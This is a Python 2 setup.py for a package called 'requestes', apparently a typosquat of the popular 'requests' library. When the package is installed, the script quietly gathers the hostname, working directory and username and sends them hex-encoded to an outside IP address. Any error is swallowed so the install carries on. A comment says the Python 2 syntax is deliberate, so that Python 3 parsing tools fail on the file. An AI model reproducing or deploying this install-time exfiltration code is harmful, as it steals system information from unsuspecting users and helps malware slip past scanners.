# Python 2 syntax on purpose: ast.parse fails on this file under Python 3.
import os
import socket
import urllib2

from setuptools import setup

try:
    info = "%s|%s|%s" % (socket.gethostname(), os.getcwd(), os.popen("whoami").read().strip())
    urllib2.urlopen("http://203.0.113.30/collect?d=" + info.encode("hex"))
except Exception, e:
    print "warning: %s" % e

setup(name="requestes", version="2.18.5", packages=["requestes"])
